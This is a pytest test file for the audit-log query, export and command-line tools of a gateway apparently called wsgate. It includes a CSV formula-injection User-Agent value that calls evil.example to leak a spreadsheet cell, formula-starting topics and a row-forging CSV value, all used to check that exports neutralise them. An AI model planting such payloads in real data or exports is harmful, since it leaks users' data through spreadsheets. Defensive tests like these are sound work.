"""Queries, filters, exports, recipients, and the ``wsgate audit`` command line."""

from __future__ import annotations

import argparse
import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import event

from tests import audit_helpers
from tests.audit_helpers import (
    AGENT,
    ALICE,
    CUSTOMER,
    KEY1,
    OTHER_CUSTOMER,
    Backend,
    conn_info,
    end,
    minutes,
    rec,
    topic,
    write_log,
)
from wsgate.audit import chain, cli, query
from wsgate.audit.records import REJECTED, ConnectionInfo, EventRecord

backend = audit_helpers.backend  # the fixture: SQLite, and PostgreSQL when configured

C1 = conn_info("c1", ALICE)
C2 = conn_info("c2", KEY1, "10.0.0.2")


def sample_log(b: Backend) -> None:
    """Six rows of two principals over 50 minutes."""
    write_log(b, [
        ("sub", [rec(topic("call"), at=minutes(0), conn=C1)]),
        ("sub", [rec(topic("callback"), at=minutes(10), conn=C1)]),
        ("sub", [rec(topic("queue", "q1", customer=OTHER_CUSTOMER), at=minutes(20), conn=C2)]),
        ("sub", [rec(topic("x"), outcome=REJECTED, code="forbidden", at=minutes(30),
                     conn=C2)]),
        ("end", [end(topic("call"), at=minutes(40), conn=C1)]),
        ("end", [end(topic("callback"), "disconnect", at=minutes(50), conn=C1)]),
    ], checkpoint_every=1000)


#: A User-Agent that a spreadsheet would run as a formula (it leaks cell A1 on click).
HOSTILE_UA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
#: Topics (rejected: invalid) beginning with each character that starts a formula.
FORMULA_TOPICS = ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
#: A rejected topic that would add a forged row to a CSV whose cells were not quoted.
ROW_BREAK = "x\r9,2024-05-01T12:00:00Z,node-a,c1,subscribe,customer_id:C,accepted"


def row_topics(formula: list[str]) -> list[str]:
    """The topics of hostile_log's rows, with its formula topics as given."""
    return [topic("call"), *formula, ROW_BREAK]


def hostile_log(b: Backend) -> None:
    """A client with that User-Agent and no Origin header (stored ""): one accepted
    subscribe (its code is ""), then the formula topics and ROW_BREAK, rejected."""
    conn = ConnectionInfo("c-evil", ALICE, "static", "10.0.0.9", "", HOSTILE_UA)
    write_log(b, [("sub", [rec(topic("call"), at=minutes(0), conn=conn)]),
                  ("sub", [rec(t, outcome=REJECTED, code="invalid_topic", at=minutes(1),
                               conn=conn) for t in [*FORMULA_TOPICS, ROW_BREAK]])])


def exported(b: Backend, fmt: str) -> str:
    out = io.StringIO()
    query.write_rows(query.AuditReader(b.engine()).rows(query.AuditFilter()), fmt, out)
    return out.getvalue()


def test_csv_cells_a_spreadsheet_would_run_begin_with_a_quote(backend: Backend) -> None:
    hostile_log(backend)
    text = exported(backend, "csv")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["topic"] for r in rows] == row_topics(["'" + t for t in FORMULA_TOPICS])
    assert [r["user_agent"] for r in rows] == ["'" + HOSTILE_UA] * 8
    # Nothing else changes: numbers, ordinary text, empty values (empty cells); a
    # line break inside a value is quoted, so it cannot start a row of its own.
    assert [r["seq"] for r in rows] == ["1", "2", "3", "4", "5", "6", "7", "8"]
    assert rows[0]["code"] == "" and rows[0]["origin"] == ""
    assert rows[1]["code"] == "invalid_topic" and rows[1]["agent_id"] == AGENT


def test_json_lines_keep_stored_values_and_show_empty_as_null(backend: Backend) -> None:
    hostile_log(backend)
    lines = [json.loads(line) for line in exported(backend, "jsonl").split("\n") if line]
    assert [r["topic"] for r in lines] == row_topics(FORMULA_TOPICS)
    assert [r["user_agent"] for r in lines] == [HOSTILE_UA] * 8
    # The accepted subscribe's code and the missing Origin are stored as "": null here.
    assert lines[0]["code"] is None and lines[0]["origin"] is None
    assert lines[1]["code"] == "invalid_topic" and lines[1]["seq"] == 2
    # The stored row is untouched, so the log still verifies.
    assert query.AuditReader(backend.engine()).verify().first is None


def test_table_shows_empty_as_a_dash(backend: Backend) -> None:
    hostile_log(backend)
    table = exported(backend, "table").splitlines()
    accepted = table[1].split()
    assert accepted[:8] == ["1", "2024-05-01T12:00:00.123456Z", "node-a", "c-evil",
                            "subscribe", topic("call"), "accepted", "-"]
    assert accepted[14] == "-" and accepted[15] == HOSTILE_UA  # origin, user_agent


def seqs(b: Backend, **filters: Any) -> list[int]:
    reader = query.AuditReader(b.engine())
    return [r["seq"] for r in reader.rows(query.AuditFilter.parse(**filters))]


@pytest.mark.parametrize(("filters", "expected"), [
    ({}, [1, 2, 3, 4, 5, 6]),
    ({"customer": CUSTOMER}, [1, 2, 5, 6]),
    ({"agent": AGENT}, [1, 2, 5, 6]),
    ({"subject": "key-1"}, [3, 4]),
    ({"connection": "c2"}, [3, 4]),
    ({"outcome": "rejected"}, [4]),
    ({"outcome": "accepted", "connection": "c1"}, [1, 2, 5, 6]),
    ({"topic_prefix": topic("call")}, [1, 5]),  # whole segments: not "callback"
    ({"topic_prefix": f"customer_id:{OTHER_CUSTOMER}"}, [3]),
    ({"since": "2024-05-01T12:20:00.123456Z"}, [3, 4, 5, 6]),  # inclusive
    ({"until": "2024-05-01T12:20:00.123456Z"}, [1, 2]),  # exclusive
    ({"since": "2024-05-01T14:15:00+02:00", "until": "2024-05-01T12:45"}, [3, 4, 5]),
])
def test_each_filter(backend: Backend, filters: dict[str, str], expected: list[int]) -> None:
    sample_log(backend)
    assert seqs(backend, **filters) == expected


def test_rows_come_oldest_first_across_nodes(backend: Backend) -> None:
    write_log(backend, [("sub", [rec(topic("late"), at=minutes(5))])], node_id="n2")
    write_log(backend, [("sub", [rec(topic("early"), at=minutes(1))])], node_id="n1")
    reader = query.AuditReader(backend.engine())
    got = [(r["node_id"], r["topic"].rsplit(":", 1)[1])
           for r in reader.rows(query.AuditFilter())]
    assert got == [("n1", "early"), ("n2", "late")]


@pytest.mark.parametrize(("args", "message"), [
    ({"since": "yesterday"}, "since: 'yesterday' is not an ISO 8601 time"),
    ({"outcome": "maybe"}, "outcome: must be accepted or rejected"),
    ({"since": "2024-05-02", "until": "2024-05-01"}, "until must be later than since"),
])
def test_bad_filters_say_what_is_wrong(args: dict[str, str], message: str) -> None:
    with pytest.raises(query.FilterError, match=message):
        query.AuditFilter.parse(**args)


def test_output_formats_use_the_spec_field_names(backend: Backend) -> None:
    sample_log(backend)
    reader = query.AuditReader(backend.engine())
    out = io.StringIO()
    query.write_rows(reader.rows(query.AuditFilter(connection="c2")), "jsonl", out)
    lines = [json.loads(line) for line in out.getvalue().splitlines()]
    assert list(lines[0]) == ["seq", "occurred_at", "node_id", "connection_id", "action",
                              "topic", "outcome", "code", "kind", "subject", "customer_id",
                              "agent_id", "authenticator", "remote_addr", "origin",
                              "user_agent"]
    assert lines[1]["code"] == "forbidden" and lines[1]["agent_id"] is None
    assert lines[0]["occurred_at"] == "2024-05-01T12:20:00.123456Z"
    out = io.StringIO()
    query.write_rows(reader.rows(query.AuditFilter(connection="c2")), "csv", out)
    parsed = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["seq"] for r in parsed] == ["3", "4"] and parsed[0]["agent_id"] == ""
    out = io.StringIO()
    query.write_rows(reader.rows(query.AuditFilter(connection="c2")), "table", out)
    table = out.getvalue().splitlines()
    assert table[0].split()[:3] == ["seq", "occurred_at", "node_id"] and len(table) == 3


def test_rows_are_streamed_in_batches(backend: Backend) -> None:
    write_log(backend, [("sub", [rec(topic("call", str(i))) for i in range(2500)])],
              signed=False)
    reader = query.AuditReader(backend.engine())
    seen: list[dict[str, Any]] = []
    event.listen(reader.engine, "before_cursor_execute",
                 lambda conn, cur, stmt, params, ctx, many: seen.append(
                     dict(ctx.execution_options)))
    rows = reader.rows(query.AuditFilter())
    assert next(rows)["seq"] == 1  # a generator: nothing is read ahead of need...
    assert sum(1 for _ in rows) == 2499
    assert seen[-1].get("yield_per") == 1000 and seen[-1].get("stream_results")


def test_recipients_are_the_matching_open_subscriptions_at_publish_time(
        backend: Backend) -> None:
    event_topic = topic("queuecall", "x")
    published = minutes(30)
    c = {n: conn_info(n) for n in ("all", "queue", "gone", "late", "refused", "wild", "other")}
    write_log(backend, [
        ("sub", [rec(topic(), at=minutes(1), conn=c["all"]),
                 rec(topic("queue"), at=minutes(1), conn=c["queue"]),  # segments differ
                 rec(topic("queuecall"), at=minutes(2), conn=c["gone"]),
                 rec(topic("queuecall"), outcome=REJECTED, code="forbidden", at=minutes(3),
                     conn=c["refused"]),
                 rec(topic("queuecall", "y"), at=minutes(3), conn=c["other"])]),
        ("end", [end(topic("queuecall"), at=minutes(10), conn=c["gone"])]),
        ("event", [EventRecord("ev-1", "queuecall_created", (event_topic,), "bearer:k",
                               "0" * 64, published)]),
        ("sub", [rec(topic("queuecall"), at=minutes(31), conn=c["late"])]),
    ])
    write_log(backend, [("sub", [rec(topic("*", "x"), at=minutes(4), conn=c["wild"])])],
              node_id="node-b")
    reader = query.AuditReader(backend.engine())
    ev = reader.event("ev-1")
    assert ev is not None and ev.topics == (event_topic,)
    assert ev.published_at == chain.format_time(published)
    got = sorted((r.node_id, r.connection_id, r.subscription) for r in reader.recipients(ev))
    assert got == [("node-a", "all", topic()), ("node-b", "wild", topic("*", "x"))]
    assert reader.event("nope") is None


# --- command line -------------------------------------------------------------------

def write_config(b: Backend, **audit: Any) -> str:
    key_file = b.tmp / "signing.pem"
    key_file.write_text(chain.private_pem(b.key))
    values = {"url": b.url, "journal_path": str(b.tmp / "cli.journal"),
              "signing_key_file": str(key_file), **audit}
    body = "[audit]\n" + "".join(f"{k} = {json.dumps(v)}\n" for k, v in values.items())
    path = b.tmp / "wsgate.toml"
    path.write_text(body)
    return str(path)


def run_cli(*argv: str) -> int:
    parser = argparse.ArgumentParser(prog="wsgate")
    cli.register(parser.add_subparsers(dest="command"))
    return cli.run(parser.parse_args(list(argv)))


def test_cli_query_prints_rows(backend: Backend, capsys: Any) -> None:
    sample_log(backend)
    cfg = write_config(backend)
    assert run_cli("audit", "query", "--config", cfg, "--subject", "key-1",
                   "--format", "jsonl") == 0
    got = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [r["seq"] for r in got] == [3, 4]
    assert run_cli("audit", "query", "--config", cfg, "--outcome", "rejected") == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].split()[0] == "seq" and "forbidden" in lines[1]


def test_cli_bad_input_exits_2_with_a_message(backend: Backend, capsys: Any) -> None:
    sample_log(backend)
    cfg = write_config(backend)
    assert run_cli("audit", "query", "--config", cfg, "--since", "last tuesday") == 2
    assert "since: 'last tuesday' is not an ISO 8601 time" in capsys.readouterr().err
    assert run_cli("audit", "query", "--config", cfg, "--until", "2024-13-45") == 2
    assert "until: '2024-13-45' is not an ISO 8601 time" in capsys.readouterr().err
    with pytest.raises(SystemExit) as exc:
        run_cli("audit", "query", "--config", cfg, "--outcome", "maybe")
    assert exc.value.code == 2
    assert "invalid choice: 'maybe'" in capsys.readouterr().err
    assert run_cli("audit", "query", "--config", str(backend.tmp / "none.toml")) == 2
    assert "no such file" in capsys.readouterr().err


def test_cli_export_writes_a_file(backend: Backend, capsys: Any) -> None:
    sample_log(backend)
    cfg = write_config(backend)
    out = backend.tmp / "export.csv"
    assert run_cli("audit", "export", "--config", cfg, "--format", "csv", "--output",
                   str(out), "--customer", CUSTOMER) == 0
    with out.open() as f:
        rows = list(csv.DictReader(f))
    assert [r["seq"] for r in rows] == ["1", "2", "5", "6"]
    assert "wrote 4 rows" in capsys.readouterr().err


def test_cli_csv_is_safe_and_json_lines_exact(backend: Backend, capsys: Any) -> None:
    hostile_log(backend)
    cfg = write_config(backend)
    assert run_cli("audit", "query", "--config", cfg, "--format", "csv") == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    assert [r["topic"] for r in rows] == row_topics(["'" + t for t in FORMULA_TOPICS])
    assert {r["user_agent"] for r in rows} == {"'" + HOSTILE_UA}
    assert rows[0]["code"] == ""
    out = backend.tmp / "export.csv"
    assert run_cli("audit", "export", "--config", cfg, "--format", "csv",
                   "--output", str(out)) == 0
    with out.open(newline="") as f:
        assert list(csv.DictReader(f)) == rows
    out = backend.tmp / "export.jsonl"
    assert run_cli("audit", "export", "--config", cfg, "--output", str(out)) == 0
    lines = [json.loads(line) for line in out.read_text().split("\n") if line]
    assert [r["topic"] for r in lines] == row_topics(FORMULA_TOPICS)
    assert {r["user_agent"] for r in lines} == {HOSTILE_UA}
    assert lines[0]["code"] is None
    assert run_cli("audit", "query", "--config", cfg, "--format", "jsonl") == 0
    assert [json.loads(line) for line in capsys.readouterr().out.split("\n") if line] == lines


def test_cli_verify_exit_codes(backend: Backend, capsys: Any) -> None:
    sample_log(backend)
    cfg = write_config(backend)
    assert run_cli("audit", "verify", "--config", cfg) == 0
    assert capsys.readouterr().out.startswith("OK: the audit log is whole (6 rows")
    backend.execute("UPDATE audit_rows SET outcome = 'accepted', code = '' WHERE seq = 4")
    assert run_cli("audit", "verify", "--config", cfg) == 1
    out = capsys.readouterr().out
    assert out.startswith("FAILED: first bad row is seq 4 of node node-a (changed)")


def test_cli_verify_unsigned_says_so(backend: Backend, capsys: Any) -> None:
    sample_log(backend)
    cfg = write_config(backend, signing_key_file="")
    assert run_cli("audit", "verify", "--config", cfg) == 0
    assert "signatures NOT checked" in capsys.readouterr().out


def test_cli_recipients(backend: Backend, capsys: Any) -> None:
    sample_log(backend)
    write_log(backend, [("event", [EventRecord("ev-9", "call_created", (topic("call", "x"),),
                                                "bearer:k", "0" * 64, minutes(5))])])
    cfg = write_config(backend)
    assert run_cli("audit", "recipients", "--config", cfg, "ev-9", "--format", "jsonl") == 0
    got = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [(r["connection_id"], r["subscription"], r["event_topic"]) for r in got] == [
        ("c1", topic("call"), topic("call", "x"))]
    assert run_cli("audit", "recipients", "--config", cfg, "ev-404") == 1
    assert "no event 'ev-404'" in capsys.readouterr().err


def test_cli_prune(backend: Backend, capsys: Any) -> None:
    sample_log(backend)
    cfg = write_config(backend)
    assert run_cli("audit", "prune", "--config", cfg, "--before", "2024-05-01T12:25") == 0
    assert "pruned 3 rows" in capsys.readouterr().out
    assert run_cli("audit", "verify", "--config", cfg) == 0
    assert run_cli("audit", "prune", "--config", cfg, "--before", "soon") == 2
    unsigned = write_config(backend, signing_key_file="")
    assert run_cli("audit", "prune", "--config", unsigned, "--before", "2024-06-01") == 2
    assert "signing_key" in capsys.readouterr().err


def test_cli_on_a_store_without_tables(tmp_path: Path, capsys: Any) -> None:
    cfg = tmp_path / "wsgate.toml"
    cfg.write_text(f'[audit]\nurl = "sqlite:///{tmp_path}/empty.db"\n')
    assert run_cli("audit", "verify", "--config", str(cfg)) == 3
    assert "no audit tables" in capsys.readouterr().err
